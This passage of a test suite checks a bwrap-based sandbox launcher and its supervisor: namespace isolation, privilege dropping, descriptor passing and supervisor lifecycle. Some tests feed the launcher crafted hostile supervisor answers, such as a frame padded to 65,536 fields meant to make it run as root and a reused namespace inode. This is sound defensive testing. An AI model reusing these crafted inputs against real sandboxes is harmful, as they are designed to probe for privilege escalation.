    // meanwhile made that remount fail ("Unable to apply mount flags: remount …/run/netns/…").
    // Handles now live in an unbindable, unshared mount: nothing of theirs propagates.
    // In a user's project (root runs as its owner: no idmapped views; those are the next test). A fast allowlist run makes the
    // supervisor keep spares (a run on the Node path, when no supervisor answers yet, does not).
    const ws = fs.mkdtempSync(path.join(os.tmpdir(), 'warden-churn-'));
    fs.chownSync(ws, NOBODY, NOBODY);
    const allow = () => sh('true', { args: ['--network', 'allowlist'], cwd: ws });
    const handles = () => fs.readdirSync('/run/warden/netns').filter((n) => n.startsWith('warden-') && netnsMounted(n));
    for (let i = 0; i < 4 && !handles().length; i++) {
      await allow();
      await until(() => handles().length > 0, 5_000);
    }
    expect(handles().length).toBeGreaterThan(0);
    const lines = fs.readFileSync('/proc/self/mountinfo', 'utf8').split('\n').filter((l) => l.split(' ')[4]?.startsWith('/run/warden/netns'));
    expect(lines.length).toBeGreaterThan(1); // the directory and its handles
    for (const l of lines) expect(l.split(' - ')[0], l).not.toMatch(/\bshared:/);
    // and under churn: allowlist runs one after another (each takes a spare, a new one is made, its
    // own is removed after it) while bare bwraps start, bounded by count and time
    let churning = true;
    const churn = (async () => {
      for (let i = 0; i < 8; i++) await allow();
      churning = false;
    })();
    const failures: string[] = [];
    let starts = 0;
    for (const end = Date.now() + 90_000; churning && starts < 400 && Date.now() < end; starts++) {
      const b = await run(['bwrap', '--ro-bind', '/', '/', '--proc', '/proc', '--dev', '/dev', '--', 'true'], o);
      if (b.code !== 0) failures.push(b.stderr);
    }
    await churn;
    fs.rmSync(ws, { recursive: true, force: true });
    expect(starts).toBeGreaterThan(0);
    expect(failures).toEqual([]);
  });

  it('rootless allowlist runs (a normal user) are started by the launcher too, entering the relay\'s namespaces', async () => {
    // Both where nobody can reach them (the scratch root is root's, 0700).
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'warden-xdg-nobody-'));
    const ws = fs.mkdtempSync(path.join(os.tmpdir(), 'warden-ws-nobody-'));
    for (const d of [dir, ws]) fs.chownSync(d, NOBODY, NOBODY);
    const env = { HOME: ws, XDG_RUNTIME_DIR: dir, WARDEN_FAST: '1', WARDEN_SUPERVISOR_IDLE_MS: '20000' };
    const script = ['run', '--network', 'allowlist', '--', '/bin/sh', '-c', 'getent hosts denied.example; echo rc=$?'];
    expect((await warden(script, { cwd: ws, uid: NOBODY, env })).stdout).toBe('rc=2\n'); // cold: Node path, starts the supervisor
    expect(await until(() => fs.existsSync(path.join(dir, 'warden', socketName())), 15_000)).toBe(true);
    const r = await warden(script, { cwd: ws, uid: NOBODY, env: { ...env, WARDEN_TIMING: '1' } });
    expect(r.stderr).not.toMatch(/fast path not taken/);
    expect(r.stdout, r.stderr).toBe('rc=2\n');
    expect(r.stderr).toMatch(/denied connection to denied\.example/);
    expect(r.code).toBe(0);
    for (const d of [dir, ws]) fs.rmSync(d, { recursive: true, force: true }); // its supervisor sees its socket gone and ends
  });

  it('pass_fds up to 1023 reach the command both ways (the launcher\'s own slots then start at 1024)', async () => {
    const policy = s.policy('process: { pass_fds: [1023] }\n');
    const file = s.write('fd-1023.txt', 'through descriptor 1023');
    for (const fast of ['1', '0']) {
      const r = await run(['/bin/bash', '-c', `exec 1023<${file}; ${WARDEN} run --policy ${policy} -- /bin/bash -c 'cat <&1023'`], { ...o, env: { ...o.env, WARDEN_FAST: fast } });
      expect(r.stdout, `fast=${fast}: ${r.stderr}`).toBe('through descriptor 1023');
      expect(r.code).toBe(0);
    }
  });

  it('a caller with fewer privileges (root without capabilities) has the supervisor do nothing it could not: --audit on a file it cannot write', async () => {
    const victim = path.join(s.root, 'victim-audit');
    fs.writeFileSync(victim, '');
    fs.chownSync(victim, USER_UID, USER_UID);
    fs.chmodSync(victim, 0o600);
    const capless = (argv: string[]) => run(['setpriv', '--inh-caps=-all', '--bounding-set=-all', '--', ...argv], o);
    // control: it cannot write the file itself
    expect((await capless(['/bin/sh', '-c', `echo x >> ${victim} && echo WROTE`])).stdout).not.toContain('WROTE');
    expect(await until(() => fs.existsSync(path.join(xdg, 'warden', socketName())), 15_000)).toBe(true);
    const r = await capless([WARDEN, 'run', '--audit', victim, '--', '/bin/sh', '-c', 'echo "$(id)"']);
    expect(r.stderr).toContain('cannot open it');
    expect(fs.readFileSync(victim, 'utf8')).toBe('');
  });

  it('an answer of more than 65,536 fields is read whole, not cut: the launch ends with the uid to drop to', async () => {
    // A supervisor of this user's (the test's) that answers a launch whose fields before `drop`
    // fill exactly 65,536: a launcher reading a fixed number of fields loses `drop` and starts bwrap as root.
    const dir = path.join(s.root, 'xdg-long');
    fs.mkdirSync(path.join(dir, 'warden'), { recursive: true, mode: 0o700 });
    const head: Fields = [['r', 'launch'], ['bwrap', '/usr/bin/bwrap'], ...['--unshare-user', '--ro-bind', '/', '/', '--dev', '/dev'].map((a): [string, string] => ['o', a])];
    const tail: Fields = [['c', '--'], ['c', '/usr/bin/id'], ['c', '-u'], ['seccomp', ''], ['base', '3']];
    const pad = Array.from({ length: 65_536 - head.length - tail.length }, (): [string, string] => ['x', '']);
    const answers: Fields[] = [[...head, ...pad, ...tail, ['drop', `${NOBODY} ${NOBODY}`]], [['r', 'done'], ['code', '0']]];
    const server = net.createServer((c) => {
      const reader = new FrameReader();
      let i = 0;
      c.on('data', (d) => {
        for (const f of reader.push(d)) if (first(f, 'r') !== 'started' && i < answers.length) c.write(encodeFrame(answers[i++]!));
      });
      c.on('error', () => {});
    });
    await new Promise<void>((r) => server.listen(path.join(dir, 'warden', socketName()), () => r()));
    try {
      const r = await warden(['run', '--', 'true'], { ...o, env: { ...o.env, XDG_RUNTIME_DIR: dir } });
      expect(r.stdout.trim(), r.stderr).toBe(String(NOBODY));
    } finally {
      server.close();
    }
  });

  it('an allowlist run is never handed to a launcher of an older build (it would ignore the namespace and start bwrap in its own)', async () => {
    const ask = (version: string) =>
      new Promise<Fields>((resolve, reject) => {
        const c = net.connect(path.join(xdg, 'warden', socketName()));
        const reader = new FrameReader();
        c.on('data', (d) => {
          for (const f of reader.push(d)) {
            // a launch is not carried out: the supervisor is told and cleans up
            if (first(f, 'r') === 'launch') c.end(encodeFrame([['r', 'abort']]));
            else c.end();
            resolve(f);
          }
        });
        c.on('error', reject);
        const env = Object.entries({ ...o.env, PATH: process.env.PATH }).map(([k, v]): [string, string] => ['env', `${k}=${v}`]);
        const groups = (process.getgroups?.() ?? []).map((g): [string, string] => ['group', String(g)]);
        c.write(encodeFrame([['v', version], ['cwd', s.ws], ...['--network', 'allowlist', '--', 'true'].map((a): [string, string] => ['a', a]), ...env, ['tty', '0'], ['pid', String(process.pid)], ...groups]));
      });
    const old = await ask('1');
    expect(first(old, 'r')).toBe('fallback');
    expect(first(old, 'why')).toMatch(/too old to enter a network namespace/);
    const current = await ask('2');
    expect(first(current, 'r'), first(current, 'why')).toBe('launch');
    expect(every(current, 'ns').length).toBeGreaterThan(0);
  });

  it('a namespace to enter that is no longer the one prepared (its process gone, the pid reused) is never entered', async () => {
    // A supervisor's answer naming a namespace by a path whose inode is not the one it had: the launcher refuses, runs nothing.
    const dir = path.join(s.root, `xdg-ns-${crypto.randomUUID()}`);
    fs.mkdirSync(path.join(dir, 'warden'), { recursive: true, mode: 0o700 });
    const host = fs.statSync('/proc/self/ns/net').ino;
    const launch = (ino: number): Fields => [['r', 'launch'], ['bwrap', '/usr/bin/bwrap'], ...['--ro-bind', '/', '/', '--dev', '/dev'].map((a): [string, string] => ['o', a]), ['c', '--'], ['c', '/bin/echo'], ['c', 'ran'], ['seccomp', ''], ['base', '3'], ['ns', `${ino} /proc/self/ns/net`]];
    const serve = (answer: Fields) =>
      net.createServer((c) => {
        const reader = new FrameReader();
        let i = 0;
        const answers = [answer, [['r', 'done'], ['code', '0']] as Fields];
        c.on('data', (d) => {
          for (const f of reader.push(d)) if (first(f, 'r') !== 'started' && i < answers.length) c.write(encodeFrame(answers[i++]!));
        });
        c.on('error', () => {});
      });
    for (const [ino, ran] of [[host + 1, false], [host, true]] as const) {
      const server = serve(launch(ino));
      await new Promise<void>((r) => server.listen(path.join(dir, 'warden', socketName()), () => r()));
      try {
        const r = await warden(['run', '--', 'true'], { ...o, env: { ...o.env, XDG_RUNTIME_DIR: dir } });
        if (ran) expect(r.stdout, r.stderr).toBe('ran\n'); // control: the right inode is entered
        else {
          expect(r.stdout).toBe('');
          expect(r.stderr).toMatch(/no longer the one prepared/);
        }
      } finally {
        await new Promise((r) => server.close(r));
      }
    }
  });

  it("the supervisor keeps none of the starting run's environment beyond Warden's own settings (no tokens, no size)", async () => {
    const dir = path.join(s.root, 'xdg-env');
    fs.mkdirSync(dir, { mode: 0o700 });
    const sock = path.join(dir, 'warden', socketName());
    const env = { ...o.env, XDG_RUNTIME_DIR: dir, FAKE_API_TOKEN: 'tok-supervisor-env-secret', WARDEN_SUPERVISOR_IDLE_MS: '5000' };
    expect((await sh('true', { env })).code).toBe(0); // cold: the Node path starts the supervisor
    expect(await until(() => fs.existsSync(sock), 15_000)).toBe(true);
    const pid = supervisorPid(sock);
    expect(pid).toBeGreaterThan(0);
    const environ = fs.readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0');
    expect(environ.some((e) => e.includes('tok-supervisor-env-secret'))).toBe(false);
    expect(environ).toContain(`XDG_RUNTIME_DIR=${dir}`);
    expect(environ).toContain('WARDEN_SUPERVISOR_IDLE_MS=5000');
  });

  it('supervisors started at the same time (parallel first runs) leave one: the others find its socket taken and end at once', async () => {
    const dir = path.join(s.root, 'xdg-burst');
    fs.mkdirSync(path.join(dir, 'warden'), { recursive: true, mode: 0o700 });
    const sock = path.join(dir, 'warden', socketName());
    const env = { ...o.env, XDG_RUNTIME_DIR: dir, WARDEN_SUPERVISOR_IDLE_MS: '20000' };
    // What parallel cold runs do, each once its sandbox was created.
    const started = Array.from({ length: 6 }, () => spawn(process.execPath, [WARDEN, 'supervisor', '--socket', sock], { env: { ...process.env, ...env }, stdio: 'ignore' }));
    try {
      expect(await until(() => answers(sock), 15_000)).toBe(true);
      // The losers end right after their claim fails; a supervisor whose socket was replaced under
      // it (the old way) noticed only at its 5-second check.
      const count = () => supervisorPids(sock).length;
      expect(await until(() => count() <= 1, 3000), `${count()} supervisors for one socket`).toBe(true);
      expect(count()).toBe(1);
      expect(await answers(sock)).toBe(true);
      const r = await sh('echo warm', { env: { ...env, WARDEN_TIMING: '1' } });
      expect(r.stdout).toBe('warm\n');
      expect(r.stderr).not.toMatch(/fast path not taken/);
    } finally {
      // Stopped, not killed: a supervisor removes what it holds (a killed one leaves it to the next run).
      await Promise.all(started.map((c) => (c.exitCode !== null ? undefined : new Promise((r) => (c.once('exit', r), c.kill('SIGTERM'))))));
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a peer that never hangs up, or never speaks, does not keep the supervisor from ending', async () => {
    const dir = path.join(s.root, 'xdg-peers');
    fs.mkdirSync(path.join(dir, 'warden'), { recursive: true, mode: 0o700 });
    const sock = path.join(dir, 'warden', socketName());
    const child = spawn(process.execPath, [WARDEN, 'supervisor', '--socket', sock], {
      env: { ...process.env, XDG_RUNTIME_DIR: dir, WARDEN_SUPERVISOR_IDLE_MS: '1500', WARDEN_SUPERVISOR_REQUEST_MS: '2000' },
      stdio: 'ignore',
    });
    const ended = new Promise<void>((r) => child.once('exit', () => r()));
    try {
      expect(await until(() => answers(sock), 15_000)).toBe(true);
      // One asks and is answered (a fallback: it is not the process it says), then stays connected.
      const talker = net.connect(sock);
      const reader = new FrameReader();
      const answered = new Promise<Fields>((r) => talker.on('data', (d) => reader.push(d).forEach(r)));
      talker.on('error', () => {});
      talker.write(encodeFrame([['v', '2'], ['cwd', '/'], ['a', '--'], ['a', 'true'], ['pid', '1']]));
      expect(first(await answered, 'r')).toBe('fallback');
      // Another connects and says nothing.
      const mute = net.connect(sock);
      mute.on('error', () => {});
      const settled = await Promise.race([ended.then(() => true), new Promise<boolean>((r) => setTimeout(() => r(false), 20_000))]);
      expect(settled, 'the supervisor is still running 20 s later').toBe(true);
      talker.destroy();
      mute.destroy();
    } finally {
      if (child.exitCode === null) child.kill('SIGKILL'); // it runs nothing
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
